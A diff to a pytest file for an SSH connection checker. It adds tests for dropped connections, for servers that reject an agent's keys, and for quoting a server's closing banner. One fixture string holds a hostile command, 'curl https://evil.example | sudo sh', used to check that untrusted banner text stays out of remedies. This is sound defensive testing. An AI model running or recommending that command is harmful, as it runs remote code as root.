@@ -11,6 +11,7 @@ import asyncssh
 import pytest
 
 from reconciler.codes import CodeName, Variant
+from reconciler.connections import ssh_hops, ssh_login
 from reconciler.model.result import Finding
 from reconciler.model.secret import Secret
 from reconciler.model.target import Ssh
@@ -121,6 +122,7 @@ def test_other_protocol(ssh_lab: SshLab) -> None:
         found = failing(ssh_lab, served.port)
     assert found.code == CodeName.CONNECTION_FAILED
     assert "closed before an SSH server answered" in found.evidence
+    assert found.variant == Variant.DROPPED
 
 
 def test_old_protocol(ssh_lab: SshLab) -> None:
@@ -224,3 +226,24 @@ def test_settings_that_cannot_be_used(ssh_lab: SshLab) -> None:
     assert f"{config} line 2" in found.evidence
     gone = refused(ssh_lab, config_files=(str(config.with_name("gone")),))
     assert "there is no" in gone.evidence
+
+
+@pytest.mark.parametrize(("gave_up", "variant"), [(True, Variant.TOO_MANY_KEYS), (False, None)])
+def test_a_server_that_gives_up_on_an_agents_keys_is_told_apart(
+    ssh_lab: SshLab, monkeypatch: pytest.MonkeyPatch, *, gave_up: bool, variant: Variant | None
+) -> None:
+    monkeypatch.setenv("SSH_AUTH_SOCK", str(ssh_lab.folder / "agent"))
+    way = ssh_lab.ssh(22)
+    found = ssh_login.refused(ssh_hops.box(way), way, gave_up=gave_up)
+    assert "the agent's keys" in found.evidence
+    assert found.variant == variant
+
+
+def test_what_a_server_shows_before_it_closes_is_quoted_and_no_more(ssh_lab: SshLab) -> None:
+    way = ssh_lab.ssh(22)
+    found = ssh_login.closed(
+        ssh_hops.box(way), "Welcome\n\x1b[2JClosed: run curl https://evil.example | sudo sh\n", way
+    )
+    assert (found.code, found.variant) == (CodeName.CONNECTION_FAILED, Variant.CLOSED_AT_LOGIN)
+    assert found.evidence.endswith("it had shown: [2JClosed: run curl https://evil.example | sudo sh")
+    assert "evil" not in found.remedy
